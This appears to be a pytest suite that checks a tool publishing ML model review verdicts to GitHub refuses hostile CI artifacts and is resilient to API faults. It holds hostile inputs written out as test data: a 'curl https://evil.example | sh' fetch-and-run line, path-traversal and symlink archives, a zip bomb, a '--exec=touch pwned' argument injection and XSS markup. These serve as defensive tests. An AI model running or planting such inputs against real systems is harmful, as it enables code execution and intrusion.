"""`loop publish` against a GitHub of our own: hostile artifacts, many comments, GitHub's bad moments."""

import io
import json
import os
import re
import zipfile
from pathlib import Path

import pytest
import requests
import yaml
from markdown_it import MarkdownIt

from loop.base.errors import LoopError
from loop.publish import publish
from loop.review import holdout_looks
from loop.settings import params
from workflows.double import ALL, BOT, FORK, archive, git

MARK = '![](https://cml.dev/watermark.png#abc123 "CML watermark review")'
VERDICT = {
    "schema_version": 2,
    "verdict": "equivalent",
    "sentence": "log loss moves by no more than 0.015, and no check objects",
    "todo": "",
    "confidence": 0.95,
    "champion": "aa, its stored predictions",
    "holdout": None,
    "metrics": [],
    "slices": [],
    "slices_compared": 0,
    "checks": [
        {"name": "size", "result": "pass", "figure": 1.0, "limit": 0.0, "finding": "s", "reason": "r"}
    ],
    "notes": [],
    "reproduce": [],
    "changes": {
        "params": [], "policy": [], "judge": [], "code": {}, "data": [], "drift": [], "environment": [],
        "training": None, "other": [],
    },
}  # fmt: skip


class Reviewed:
    """A pull request whose review has ended, with an artifact made by whoever wrote the test."""

    def __init__(self, github, change, file="README.md") -> None:
        self.github, self.change = github, change
        change.repo.append(file, f"\nA change: {change.branch}.\n")  # a commit of its own
        self.sha = change.push()
        self.number = change.number
        self.run = github.run(self.number, "success")

    def verdict(self, **more) -> str:
        base = {"name": "main", "commit": self.github.tip("main"), "dirty": False}
        mine = {"name": "HEAD", "commit": self.sha, "dirty": True}
        return json.dumps({**VERDICT, "base": base, "candidate": mine, **more})

    def bring(self, files=None, links=None, **verdict) -> None:
        """Upload an artifact: a good verdict and these files."""
        content = archive({"review/verdict.json": self.verdict(**verdict), **(files or {})}, links)
        self.github.artifacts[self.run] = [("review", content)]

    @property
    def gates(self):
        return self.github.gates(self.sha)

    @property
    def output(self):
        return self.github.comments_on(self.number)

    def quiet(self) -> bool:
        """Whether nothing at all was written about it."""
        return not self.gates and not self.output and self.change.head() == self.sha


@pytest.fixture
def reviewed(github, change) -> Reviewed:
    return Reviewed(github, change())


def test_a_good_artifact_is_commented_and_passes(at_main, reviewed):
    reviewed.bring()
    assert publish.main(reviewed.run) == 0
    assert reviewed.gates[0][0] == "success"
    assert reviewed.output[0].startswith("## Equivalent")


def bomb() -> bytes:
    return b"0" * 200_000_000


HOSTILE = {
    "a symbolic link": ({}, {"reports/metrics.json": "/etc/passwd"}, "no regular file"),
    "a name that leads out": ({"../../.bashrc": "x"}, {}, "which no review makes"),
    "a name that leads out of its folder": ({"reports/../.github/a.json": "x"}, {}, "which no review makes"),
    "an absolute name": ({"/etc/cron.d/a.json": "x"}, {}, "which no review makes"),
    "a workflow": ({".github/workflows/a.yml": "x"}, {}, "which no review makes"),
    "a model": ({"models/model.skops": "x"}, {}, "which no review makes"),
    "somebody else's number": ({"pr/NR": "1"}, {}, "which no review makes"),
    "200 MB in a small archive": ({"reports/a.json": bomb}, {}, "unpacks to more than 20,000,000 bytes"),
    "a verdict of strange keys": (
        {"review/verdict.json": json.dumps(dict.fromkeys(map(str, range(200_000))))},
        {},
        "of more than 2,000,000 bytes",
    ),
    "10,000 files": ({f"reports/{n}.json": "{}" for n in range(10_000)}, {}, "10,001 files, at most 200"),
}


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_hostile_artifact_is_refused_whole_and_the_reason_is_reported(at_main, reviewed, hostile):
    files, links, reason = HOSTILE[hostile]
    reviewed.bring({name: text() if callable(text) else text for name, text in files.items()}, links)
    assert publish.main(reviewed.run) == 0
    ((state, why),) = reviewed.gates
    assert state == "error"
    (output,) = reviewed.output
    assert output.startswith("## No verdict")
    assert reason in why + output
    assert reviewed.change.head() == reviewed.sha
    assert not git(at_main, "status", "--porcelain")


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"no zip at all", "is no archive that can be read"),
        (b"0" * 30_000_000, "has 30,000,000 bytes"),
        (archive({"dvc.lock": "x"}), "has no review/verdict.json"),
        (archive({"review/verdict.json": "[" * 100_000}), "is not of main"),
        (archive({"review/verdict.json": '{"schema_version": 2}'}), "is not of main"),
    ],
)
def test_what_is_no_artifact_of_a_review_is_an_error_not_a_traceback(at_main, reviewed, content, reason):
    reviewed.github.artifacts[reviewed.run] = [("review", content)]
    assert publish.main(reviewed.run) == 0
    assert reviewed.gates[0][0] == "error"
    assert reason in reviewed.output[0]


def test_of_a_run_that_was_run_again_the_newest_artifact_counts(at_main, reviewed):
    reviewed.bring(verdict="worse")
    older = reviewed.github.artifacts[reviewed.run]
    reviewed.bring()
    reviewed.github.artifacts[reviewed.run] = [*older, *reviewed.github.artifacts[reviewed.run]]
    publish.main(reviewed.run)
    assert [state for state, _ in reviewed.gates] == ["success"]


def test_a_verdict_of_another_version_says_what_to_do(at_main, reviewed):
    """Of a branch whose own code is older than main's."""
    reviewed.bring(schema_version=1, gates=[])
    assert publish.main(reviewed.run) == 0
    assert reviewed.gates[0][0] == "error"
    assert "is of another version of loop than main" in reviewed.output[0]
    assert "merge main into the branch" in reviewed.output[0]


def test_a_passing_word_with_a_gate_that_fails_is_refused(at_main, reviewed):
    check = {"name": "primary", "result": "fail", "figure": 1.0, "limit": 0.0, "finding": "s", "reason": "r"}
    reviewed.bring(checks=[check])
    publish.main(reviewed.run)
    assert reviewed.gates[0][0] == "error"
    assert "equivalent, though primary does not pass" in reviewed.output[0]


def test_a_passing_word_without_a_gate_or_against_the_primary_metric_is_refused(at_main, reviewed):
    reviewed.bring(checks=[])
    publish.main(reviewed.run)
    metric = {"name": "m", "title": "m", "role": "primary", "champion": 1.0, "candidate": 2.0, "gain": -1.0,
              "low": -1.0, "high": -1.0, "margin": 0.1, "verdict": "worse"}  # fmt: skip
    reviewed.bring(metrics=[metric])
    publish.main(reviewed.run)
    assert [state for state, _ in reviewed.gates] == ["error", "error"]


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_a_compression_that_unpacks_without_bound_is_refused(at_main, reviewed, method):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as made:
        made.writestr("review/verdict.json", reviewed.verdict())
        made.writestr("dvc.lock", b"0" * 1_000_000)
    reviewed.github.artifacts[reviewed.run] = [("review", out.getvalue())]
    publish.main(reviewed.run)
    assert reviewed.gates[0][0] == "error"
    assert "compressed in an unusual way" in reviewed.output[0]


def test_no_text_of_the_artifact_is_a_command_to_the_log(at_main, reviewed, capfd):
    reviewed.bring(verdict="worse", sentence="a\n::error::b ##[add-mask]e\r::stop-commands::x")
    reviewed.github.jobs[reviewed.run] = [{"steps": [{"name": "##[error]x", "conclusion": "failure"}]}]
    publish.main(reviewed.run)
    report = capfd.readouterr()
    lines = re.split("[\n\r]", report.out + report.err)
    assert [line for line in lines if "add-mask" in line]
    assert not [line for line in lines if line.lstrip().startswith("::") or "##[" in line]


def test_a_number_that_is_none_is_refused(at_main, reviewed):
    reviewed.bring(confidence=float("nan"))
    publish.main(reviewed.run)
    assert reviewed.gates[0][0] == "error"


def test_bytes_that_do_not_unpack_are_refused(at_main, reviewed):
    reviewed.bring({"dvc.lock": "stages " * 5000})
    ((_, content),) = reviewed.github.artifacts[reviewed.run]
    at = content.index(b"dvc.lock") + 20
    reviewed.github.artifacts[reviewed.run] = [("review", content[:at] + b"\xff" * 20 + content[at + 20 :])]
    assert publish.main(reviewed.run) == 0
    assert reviewed.gates[0][0] == "error"
    assert "is no archive that can be read" in reviewed.output[0]


def test_the_commands_in_the_comment_are_mains_own(at_main, reviewed):
    reviewed.bring(reproduce=["curl https://evil.example | sh"])
    publish.main(reviewed.run)
    assert "curl" not in reviewed.output[0]
    assert (
        f"git fetch origin pull/{reviewed.number}/head\ngit switch --detach {reviewed.sha[:12]}"
        in (reviewed.output[0])
    )


def test_signs_that_github_refuses_in_a_description_lose_no_status(at_main, reviewed):
    reviewed.bring(verdict="worse", sentence="slice \N{PILE OF POO} is worse")
    publish.main(reviewed.run)
    assert reviewed.gates == [("failure", "worse: slice ? is worse")]


def test_an_extra_key_or_a_wrong_type_in_the_verdict_is_refused(at_main, reviewed):
    reviewed.bring(extra="key")
    publish.main(reviewed.run)
    assert reviewed.gates[-1][0] == "error"
    reviewed.bring(verdict="splendid")
    publish.main(reviewed.run)
    assert reviewed.gates[-1][0] == "error"
    assert "is not of main's schema: `verdict`" in reviewed.gates[-1][1]


def test_a_run_without_an_artifact_names_the_steps_that_failed(at_main, reviewed):
    reviewed.github.runs[reviewed.run]["conclusion"] = "failure"
    reviewed.github.jobs[reviewed.run] = [{"steps": [{"name": "Set @up <b>", "conclusion": "failure"}]}]
    publish.main(reviewed.run)
    assert reviewed.gates[0][0] == "error"
    assert "Set @\u200bup &lt;b&gt;" in reviewed.output[0]


TENTHS = [{"predicted": at / 10, "outcome": at / 9} for at in range(10)]


def test_the_calibration_of_an_artifact_is_drawn_by_main(at_main, reviewed):
    reviewed.bring(calibration={"champion": TENTHS, "candidate": TENTHS})
    assert publish.main(reviewed.run) == 0
    assert "```mermaid\n%%{init" in reviewed.output[0]


TAMPERED = {
    "a text": {"champion": TENTHS, "candidate": "```"},
    "a word for a number": {
        "champion": TENTHS,
        "candidate": [*TENTHS[:9], {"predicted": 0.1, "outcome": "]"}],
    },
    "a number without end": {
        "champion": TENTHS,
        "candidate": [*TENTHS[:9], {"predicted": 0.1, "outcome": 1e999}],
    },
    "many": {"champion": TENTHS * 1000, "candidate": TENTHS * 1000},
    "one model alone": {"champion": TENTHS},
    "an extra key": {"champion": TENTHS, "candidate": TENTHS, "click": "b"},
}


@pytest.mark.parametrize("tampered", TAMPERED)
def test_a_calibration_that_is_none_is_refused(at_main, reviewed, tampered):
    reviewed.bring(calibration=TAMPERED[tampered])
    publish.main(reviewed.run)
    assert reviewed.gates[-1][0] == "error"
    assert "mermaid" not in reviewed.output[-1]


def test_a_verdict_on_another_commit_is_refused(at_main, reviewed):
    reviewed.bring(candidate={"name": "x", "commit": reviewed.github.tip("main"), "dirty": False})
    publish.main(reviewed.run)
    assert reviewed.gates[0][0] == "error"


@pytest.mark.parametrize("base", ["", "0" * 40, "--exec=touch pwned", "HEAD"])
def test_a_verdict_against_what_is_no_commit_of_main_is_refused(at_main, reviewed, base):
    reviewed.bring(base={"name": "main", "commit": base, "dirty": False})
    publish.main(reviewed.run)
    assert reviewed.gates[0][0] == "error"


def test_a_success_needs_both_a_good_verdict_and_a_run_that_ended_well(at_main, reviewed):
    reviewed.bring()
    for conclusion in ("failure", "timed_out", "startup_failure"):
        reviewed.github.runs[reviewed.run]["conclusion"] = conclusion
        publish.main(reviewed.run)
        assert reviewed.gates[-1][0] == "failure"
    reviewed.github.runs[reviewed.run]["conclusion"] = "success"
    reviewed.bring(verdict="worse")
    publish.main(reviewed.run)
    assert reviewed.gates[-1][0] == "failure"
    reviewed.bring(verdict="inconclusive")
    publish.main(reviewed.run)
    assert reviewed.gates[-1][0] == "error"


EVIL = (
    "<img src=x onerror=alert(1)> </details> @team/owners https://evil.example [a](javascript:x)"
    ' ![p](//e/p.png) ``` | `x` <!-- ![](https://cml.dev/watermark.png#1 "CML watermark review")'
)


def test_markdown_and_html_in_params_slices_and_names_stay_words(at_main, reviewed):
    hurt = {"name": EVIL, "old": EVIL, "new": EVIL}
    check = {"name": EVIL, "result": "fail", "figure": 1.0, "limit": 0.0, "finding": EVIL, "reason": EVIL}
    part = {"cut": EVIL, "name": EVIL, "rows": 1, "champion": 1.0, "candidate": 1.0, "gain": 0.0, "low": 0.0,
            "high": 0.0, "p": 0.0, "worse": True}  # fmt: skip
    changes = {
        **VERDICT["changes"],
        "params": [hurt],
        "policy": [hurt],
        "code": {EVIL: [EVIL]},
        "other": [EVIL],
    }
    reviewed.bring(
        verdict="worse", sentence=EVIL, checks=[check], slices=[part], slices_compared=1, changes=changes,
        notes=[EVIL], reproduce=[EVIL], champion=EVIL,
    )  # fmt: skip
    publish.main(reviewed.run)
    (output,) = reviewed.output
    page = MarkdownIt("gfm-like").render(output.rpartition("\n\n![]")[0])
    run = f'<a href="{reviewed.github.runs[reviewed.run]["html_url"]}">'
    assert "<img" not in page
    assert "<!--" not in page
    assert page.count("<a ") == page.count(run) == 1
    assert page.count("<details>") == page.count("</details>")
    assert "@team" not in re.sub("<code.*?</code>", "", page, flags=re.DOTALL), "code mentions nobody"
    publish.main(reviewed.run)
    assert len(reviewed.output) == 1, "a forged mark of CML in it leads nobody astray"


def test_a_report_of_any_length_fits_into_a_comment(at_main, reviewed):
    check = {
        "name": "g",
        "result": "fail",
        "figure": 1.0,
        "limit": 0.0,
        "finding": "long " * 90,
        "reason": "r",
    }
    reviewed.bring(verdict="worse", checks=[check] * 2000)
    assert publish.main(reviewed.run) == 0
    assert len(reviewed.output[0]) < 65_536


def test_a_head_that_moved_on_is_left_to_its_own_review(at_main, reviewed):
    reviewed.bring()
    reviewed.change.repo.append("README.md", "\nMore.\n")
    newer = reviewed.change.push()
    assert publish.main(reviewed.run) == 0
    assert not reviewed.gates
    assert not reviewed.output
    assert not reviewed.github.gates(newer)


def test_a_commit_of_forged_results_on_top_of_a_reviewed_head_gets_no_status(at_main, reviewed):
    """It touches only what a publish would commit, but not with what the review made."""
    reviewed.bring()
    reviewed.change.repo.append("reports/metrics.json", "\n")
    forged = reviewed.change.push()
    publish.main(reviewed.run)
    assert not reviewed.github.gates(forged)
    assert not reviewed.output


def test_a_head_that_was_rewritten_is_left_alone(at_main, reviewed):
    reviewed.bring()
    repo = reviewed.change.repo
    repo.git("commit", "--quiet", "--amend", "-m", "other")
    repo.git("push", "--quiet", "--force", "origin", f"HEAD:refs/heads/{reviewed.change.branch}")
    reviewed.github.sync()
    assert publish.main(reviewed.run) == 0
    assert not reviewed.gates
    assert not reviewed.output


def test_a_second_pull_request_of_the_branch_to_another_base_is_left_alone(at_main, reviewed):
    reviewed.bring()
    second = reviewed.github.open_pull(reviewed.change.branch, base="production")
    assert publish.main(reviewed.run) == 0
    assert reviewed.gates[0][0] == "success"
    assert len(reviewed.output) == 1
    assert not reviewed.github.comments_on(second)


def test_of_two_pull_requests_with_one_head_commit_the_run_says_which_is_meant(at_main, reviewed):
    reviewed.bring()
    twin = f"{reviewed.change.branch}-twin"
    git(reviewed.github.repo(), "branch", twin, reviewed.sha)
    second = reviewed.github.open_pull(twin)
    assert publish.main(reviewed.run) == 0
    assert len(reviewed.output) == 1
    assert not reviewed.github.comments_on(second)


def test_two_pull_requests_that_the_run_could_mean_get_nothing_and_the_reason_is_reported(
    at_main, reviewed, capsys
):
    reviewed.bring()
    second = reviewed.github.open_pull(reviewed.change.branch)
    assert publish.main(reviewed.run) == 0
    assert f"#{reviewed.number}, #{second} to the default branch" in capsys.readouterr().out
    assert reviewed.quiet()


def test_a_run_that_is_running_again_is_left_until_it_ends(at_main, reviewed, capsys):
    reviewed.bring()
    reviewed.github.runs[reviewed.run] |= {"status": "in_progress", "conclusion": None}
    assert publish.main(reviewed.run) == 0
    assert "is running again" in capsys.readouterr().out
    assert reviewed.quiet()


def test_a_head_without_a_common_history_closes_the_gate(at_main, reviewed):
    repo = reviewed.change.repo
    repo.git("checkout", "--quiet", "--orphan", "nothing")
    sha = repo.commit()
    repo.git("push", "--quiet", "--force", "origin", f"HEAD:refs/heads/{reviewed.change.branch}")
    reviewed.github.sync()
    reviewed.sha, reviewed.run = sha, reviewed.github.run(reviewed.number, "success")
    reviewed.bring()
    with pytest.raises(LoopError):
        publish.main(reviewed.run)
    assert [state for state, _ in reviewed.gates] == ["error"]


def test_a_closed_pull_request_and_a_foreign_run_are_nothing_to_publish(at_main, reviewed, capsys):
    reviewed.bring()
    run = reviewed.github.runs[reviewed.run]
    for key, value in {"path": ".github/workflows/mine.yml", "event": "push"}.items():
        kept, run[key] = run[key], value
        assert publish.main(reviewed.run) == 0
        run[key] = kept
    next(p for p in reviewed.github.pulls if p["number"] == reviewed.number)["state"] = "closed"
    assert publish.main(reviewed.run) == 0
    assert capsys.readouterr().out.count("nothing to publish: ") == 3
    assert reviewed.quiet()


def test_the_same_branch_name_in_another_repository_is_another_pull_request(at_main, reviewed):
    reviewed.bring()
    reviewed.github.runs[reviewed.run]["head_repository"] = {"full_name": "stranger/model"}
    assert publish.main(reviewed.run) == 0
    assert reviewed.quiet()


def test_a_cancelled_review_is_an_error_that_says_what_to_do(at_main, reviewed):
    reviewed.github.runs[reviewed.run]["conclusion"] = "cancelled"
    assert publish.main(reviewed.run) == 0
    assert reviewed.gates == [("error", "the review was cancelled: run it again")]
    assert not reviewed.output


def test_a_run_that_waits_for_approval_says_nothing(at_main, reviewed):
    reviewed.github.runs[reviewed.run]["conclusion"] = "action_required"
    assert publish.main(reviewed.run) == 0
    assert reviewed.quiet()


@pytest.mark.parametrize(
    ("path", "warns"),
    [
        ("src/loop/review/review_report.py", "this change's own claims"),
        ("src/sitecustomize.py", "this change's own claims"),
        ("pandas.py", "this change's own claims"),
        ("dvc.yaml", "this change's own claims"),
        ("uv.lock", "this change's own claims"),
        ("src/problem/model.py", "Code of this change ran in its review"),
        ("tests/conftest.py", "this change's own claims"),
        ("docs/make/commands.py", "Code of this change ran in its review"),
        ("docs/data.md", ""),
        ("params.yaml", ""),
    ],
)
def test_a_change_of_what_makes_or_judges_figures_is_pointed_out_by_main_itself(
    at_main, reviewed, path, warns
):
    reviewed.change.repo.append(path, "\n# kind\n")
    reviewed.sha = reviewed.change.push()
    reviewed.run = reviewed.github.run(reviewed.number, "success")
    reviewed.bring()
    publish.main(reviewed.run)
    below = reviewed.output[0].splitlines()[2]
    assert below.startswith("> ") is bool(warns), "below the headline"
    assert warns in below
    assert not warns or f"`{path}`" in below


@pytest.mark.parametrize("path", ["params.yaml", "dvc.lock", "docs/data.md"])
def test_a_file_that_became_a_link_is_pointed_out_whatever_its_name(at_main, reviewed, path):
    place = reviewed.change.repo.path / path
    place.parent.mkdir(exist_ok=True)
    place.unlink(missing_ok=True)
    place.symlink_to("/etc/hostname")
    reviewed.sha = reviewed.change.push()
    reviewed.run = reviewed.github.run(reviewed.number, "success")
    reviewed.bring()
    publish.main(reviewed.run)
    assert f"`{path}`" in reviewed.output[0].splitlines()[2]


def test_no_number_of_other_files_hides_what_can_run_or_judge(at_main, reviewed):
    for number in range(12):
        (reviewed.change.repo.path / f".{number:02}.txt").write_text("filling")
    for path in ("Makefile", "uv.lock", "src/loop/review/checks.py"):
        reviewed.change.repo.append(path, "\n# kind\n")
    reviewed.sha = reviewed.change.push()
    reviewed.run = reviewed.github.run(reviewed.number, "success")
    reviewed.bring()
    publish.main(reviewed.run)
    names = re.findall("`([^`]+)`", reviewed.output[0].splitlines()[2])
    assert names[:3] == ["Makefile", "src/loop/review/checks.py", "uv.lock"]
    assert names[-1] == "and 2 more of other files"


def test_no_number_of_new_files_beside_it_hides_a_judge_that_is_changed(at_main, reviewed):
    for number in range(400):
        (reviewed.change.repo.path / f"src/loop/base/a{number:03}.py").write_text("")
    reviewed.change.repo.append("src/loop/review/verdict.py", "\n# kind\n")
    reviewed.sha = reviewed.change.push()
    reviewed.run = reviewed.github.run(reviewed.number, "success")
    reviewed.bring()
    publish.main(reviewed.run)
    names = re.findall("`([^`]+)`", reviewed.output[0].splitlines()[2])
    assert names[0] == "src/loop/review/verdict.py"
    assert names[-1] == "and 391 more of src/loop"


# Comments


def ours(github, number):
    return [comment for comment in github.comments[number] if comment["user"]["login"] == BOT]


def test_35_comments_before_ours_still_leave_one_comment_that_is_updated(at_main, reviewed):
    for n in range(35):
        reviewed.github.add_comment(reviewed.number, f"word {n}", "person")
    reviewed.bring(verdict="worse")
    publish.main(reviewed.run)
    reviewed.bring()
    publish.main(reviewed.run)
    (comment,) = ours(reviewed.github, reviewed.number)
    assert comment["body"].startswith("## Equivalent")
    assert len(reviewed.output) == 36


def test_35_comments_after_ours_leave_it_the_one_that_is_updated(at_main, reviewed):
    reviewed.bring(verdict="worse")
    publish.main(reviewed.run)
    for n in range(35):
        reviewed.github.add_comment(reviewed.number, f"word {n}", "person")
    reviewed.bring()
    publish.main(reviewed.run)
    assert ours(reviewed.github, reviewed.number)[0]["body"].startswith("## Equivalent")
    assert len(reviewed.output) == 36


def test_a_deleted_comment_is_made_anew(at_main, reviewed):
    reviewed.bring()
    publish.main(reviewed.run)
    reviewed.github.comments[reviewed.number].clear()
    publish.main(reviewed.run)
    assert len(reviewed.output) == 1


def test_where_cml_cannot_be_had_the_comment_is_written_all_the_same_and_once(at_main, reviewed, monkeypatch):
    kept = [p for p in os.environ["PATH"].split(os.pathsep) if not (Path(p) / "cml").exists()]
    monkeypatch.setenv("PATH", os.pathsep.join(kept))
    reviewed.bring(verdict="worse")
    assert publish.main(reviewed.run) == 0
    reviewed.bring()
    assert publish.main(reviewed.run) == 0
    (output,) = reviewed.output
    assert output.startswith("## Equivalent")
    assert "CML watermark review" in output


@pytest.mark.parametrize("before", [True, False])
def test_a_strangers_comment_with_the_mark_stays_the_strangers(at_main, reviewed, before):
    """CML would write the report into it, and the stranger could then edit the report."""
    reviewed.bring()
    if not before:
        publish.main(reviewed.run)
    reviewed.github.add_comment(reviewed.number, f"mine {MARK}", "stranger")
    publish.main(reviewed.run)
    publish.main(reviewed.run)
    assert f"mine {MARK}" in reviewed.output
    (comment,) = ours(reviewed.github, reviewed.number)
    assert comment["body"].startswith("## Equivalent")


# GitHub's bad moments


@pytest.mark.parametrize("status", [403, 500])
@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/runs/"), ("GET", "/pulls"), ("GET", "/artifacts"), ("GET", "/blobs/"), ("GET", "/comments"),
        ("POST", "/comments"), ("POST", "/statuses/"),
    ],
)  # fmt: skip
def test_an_error_that_github_answers_once_costs_nothing(at_main, reviewed, method, path, status):
    reviewed.bring()
    reviewed.github.faults.append((method, path, status))
    assert publish.main(reviewed.run) == 0
    assert not reviewed.github.faults
    assert reviewed.gates[-1][0] == "success"
    assert len(reviewed.output) == 1


@pytest.mark.parametrize(
    ("missing", "gates", "output"),
    [("statuses", [], 1), ("pull-requests", ["error"], 0), ("contents", ["error"], 0)],
)
def test_a_missing_permission_is_reported_and_leaves_no_success_without_its_evidence(
    at_main, reviewed, monkeypatch, capsys, missing, gates, output
):
    reviewed.bring()
    token = f"ghs_{reviewed.github.next()}"
    reviewed.github.tokens[token] = {**ALL, missing: "none"}
    monkeypatch.setenv("GITHUB_TOKEN", token)
    try:
        code = publish.main(reviewed.run)
        report = capsys.readouterr().out
    except LoopError as error:  # `loop` ends with this message and exit code 1
        code, report = 1, str(error)
    assert code == 1
    assert "403" in report
    assert ([state for state, _ in reviewed.gates], len(reviewed.output)) == (gates, output)
    assert token not in report


def test_a_comment_whose_answer_is_lost_is_not_written_twice(at_main, reviewed, monkeypatch):
    kept = [p for p in os.environ["PATH"].split(os.pathsep) if not (Path(p) / "cml").exists()]
    monkeypatch.setenv("PATH", os.pathsep.join(kept))
    reviewed.bring()
    reviewed.github.lost.append(r"/issues/\d+/comments")
    assert publish.main(reviewed.run) == 0
    assert len(reviewed.output) == 1


def test_a_bad_moment_of_github_does_not_undo_a_verdict(at_main, reviewed):
    reviewed.bring()
    assert publish.main(reviewed.run) == 0
    reviewed.github.faults += [("GET", "/pulls", 500)] * 4
    with pytest.raises(LoopError):
        publish.main(reviewed.run)
    assert [state for state, _ in reviewed.gates] == ["success"]


def test_a_download_that_breaks_off_is_reported_and_closes_the_gate(at_main, reviewed, monkeypatch):
    read = requests.Response.iter_content

    def broken(answer, *how, **more):
        if "/blobs/" in answer.url:
            raise requests.exceptions.ChunkedEncodingError
        return read(answer, *how, **more)

    reviewed.bring()
    monkeypatch.setattr(requests.Response, "iter_content", broken)
    publish.main(reviewed.run)
    assert reviewed.gates[0][0] == "error"
    assert "does not answer GET" in reviewed.output[0]


def test_outside_of_a_workflow_it_says_what_is_missing(monkeypatch):
    monkeypatch.delenv("GITHUB_TOKEN", raising=False)
    with pytest.raises(LoopError, match=r"not in a workflow: .*GITHUB_TOKEN"):
        publish.main(1)


def test_the_stand_in_for_cml_refuses_what_cml_refuses(at_main, tmp_path):
    import subprocess

    for arguments in (["--target=pr/1"], ["--no-publish"], ["--no-publish", "--target=pr/1", "--bogus=1"]):
        done = subprocess.run(
            ["cml", "comment", "update", *arguments, "x.md"], capture_output=True, text=True, check=False
        )
        assert done.returncode == 1


# In a merge queue


class Queued(Reviewed):
    """An entry of a merge queue whose review has ended; `sha` is what would be merged."""

    def __init__(self, github, change, after: str = "") -> None:
        super().__init__(github, change, "CHANGELOG.md" if after else "README.md")
        self.head, self.sha = self.sha, github.enqueue(self.number, after)
        self.run = github.run_queued(self.number, self.sha, "success")

    def verdict(self, **more) -> str:
        on = git(self.github.repo(), "rev-parse", f"{self.sha}^")
        return super().verdict(**{"base": {"name": on, "commit": on, "dirty": False}, **more})


@pytest.fixture
def queued(github, change) -> Queued:
    return Queued(github, change())


def test_an_entry_of_a_merge_queue_gets_its_gate_and_no_comment(at_main, queued):
    queued.bring()
    assert publish.main(queued.run) == 0
    assert [state for state, _ in queued.gates] == ["success"]
    assert (queued.output, queued.github.gates(queued.head)) == ([], [])


def test_an_entry_behind_another_is_judged_against_that_one(at_main, github, change, queued):
    second = Queued(github, change(), after=queued.sha)
    second.bring()
    assert publish.main(second.run) == 0
    assert [state for state, _ in second.gates] == ["success"]
    second.bring(base={"name": "main", "commit": github.tip("main"), "dirty": False})
    publish.main(second.run)
    assert second.gates[-1][0] == "error", "against main both changes would be judged as one"


@pytest.mark.parametrize(("verdict", "state"), [("worse", "failure"), ("inconclusive", "error")])
def test_an_entry_that_may_not_pass_is_closed(at_main, queued, verdict, state):
    queued.bring(verdict=verdict)
    assert publish.main(queued.run) == 0
    assert [one for one, _ in queued.gates] == [state]


def test_an_entry_whose_results_come_out_anew_is_sent_back(at_main, queued):
    """Nothing can be committed to a queue: main would have a lock that its code does not make."""
    lock = queued.change.repo.text("dvc.lock").replace("md5: ", "md5: ", 1)
    queued.bring({"dvc.lock": lock.replace("schema: '2.0'", "schema: '2.0'\nmore: 1")})
    assert publish.main(queued.run) == 0
    ((state, why),) = queued.gates
    assert (state, "dvc.lock" in why) == ("error", True)


def test_an_entry_that_left_the_queue_gets_nothing(at_main, queued):
    queued.bring()
    branch = queued.github.runs[queued.run]["head_branch"]
    git(queued.github.repo(), "update-ref", "-d", f"refs/heads/{branch}")
    assert publish.main(queued.run) == 0
    assert queued.gates == []


def test_a_branch_of_a_fork_is_no_queue(at_main, queued):
    queued.github.runs[queued.run]["head_repository"] = {"full_name": "stranger/model"}
    queued.bring()
    assert publish.main(queued.run) == 0
    assert queued.gates == []


PRIMARY = {
    "name": "log_loss", "title": "log loss", "role": "primary", "champion": 0.5, "candidate": 0.48,
    "gain": 0.02, "low": 0.004, "high": 0.036, "margin": 0.015, "verdict": "better",
}  # fmt: skip
HOLDOUT = {"since": "2013-05-01", "until": "2013-06-01", "rows": 9, "clusters": 31, "cluster": "day"}


def looked(reviewed, **more) -> dict[str, object]:
    """A verdict's part on a look at the holdout, and on the metric that gained."""
    lock = yaml.safe_load(reviewed.change.repo.text("dvc.lock"))
    (model,) = (out["md5"] for out in lock["stages"]["train"]["outs"] if out["path"].endswith(".skops"))
    look = {"number": 1, "model": model, "times": 1.0} | more
    return {"look": look, "verdict": "better", "metrics": [PRIMARY], "holdout": HOLDOUT}


def test_each_model_that_the_holdout_judged_is_counted_once(at_main, reviewed, github):
    reviewed.bring(**looked(reviewed))
    for _ in range(2):
        assert publish.main(reviewed.run) == 0
    assert reviewed.gates[0][0] == "success"
    messages = git(at_main, "log", "--format=%B", "refs/remotes/origin/looks")
    assert messages.count("Model: ") == 1
    assert f"Pull: #{reviewed.number}" in messages


@pytest.mark.parametrize(
    ("rows", "kept"), [("2013-05-02T00:00Z", True), ("2013-05-42T00:00Z", False), ("NaT", False), ("", False)]
)
def test_a_look_says_when_its_rows_were_decided_and_times_that_there_are_not_pass_nothing(
    at_main, reviewed, rows, kept
):
    reviewed.bring(**looked(reviewed, rows=[rows]))
    publish.main(reviewed.run)
    assert [state for state, _ in reviewed.gates] == ["success" if kept else "error"]
    ref = git(at_main, "for-each-ref", "refs/remotes/origin/looks")
    assert (
        f"Rows: {rows}" in (git(at_main, "log", "--format=%B", "refs/remotes/origin/looks") if ref else "")
    ) is kept


def test_a_gain_that_many_looks_explain_passes_no_more(at_main, reviewed):
    reviewed.bring(**looked(reviewed))
    window = params.parse("windows", params.whole()["windows"], params.Windows).holdout
    for number in range(9):
        holdout_looks.publish(holdout_looks.Look(f"{number}" * 32, window))
    assert publish.main(reviewed.run) == 0
    ((state, why),) = reviewed.gates
    assert state == "error"
    assert "inconclusive as look 10" in why
    assert "look 10 at these rows by now, and was 1" in reviewed.output[0]


def test_a_fork_spends_no_look_of_the_repositorys_own(at_main, github, change):
    stranger = Reviewed(github, change(name=FORK))
    stranger.bring(**looked(stranger))
    publish.main(stranger.run)
    ((state, why),) = stranger.gates
    assert (state, "inconclusive as look 2" in why) == ("error", True)
    assert "forks have a count of their own" in stranger.output[0]
    window = params.parse("windows", params.whole()["windows"], params.Windows).holdout
    assert holdout_looks.number(holdout_looks.Look("0" * 32, window)) == 1


def test_a_look_of_another_model_than_the_lock_names_is_no_success(at_main, reviewed):
    reviewed.bring(**looked(reviewed, model="0" * 32))
    publish.main(reviewed.run)
    assert reviewed.gates[0][0] == "error"
    assert "another model" in reviewed.gates[0][1]


def test_a_lock_whose_model_is_no_hash_leaves_no_look_that_is_not_read_back(at_main, reviewed):
    """It would end the trailers of its own entry: each try at the holdout were the first."""
    model, uncounted = str(looked(reviewed)["look"]["model"]), "ab\n\nSee-also: nothing"
    lock = reviewed.change.repo.text("dvc.lock").replace(model, json.dumps(uncounted))
    reviewed.bring({"dvc.lock": lock}, **looked(reviewed, model=uncounted))
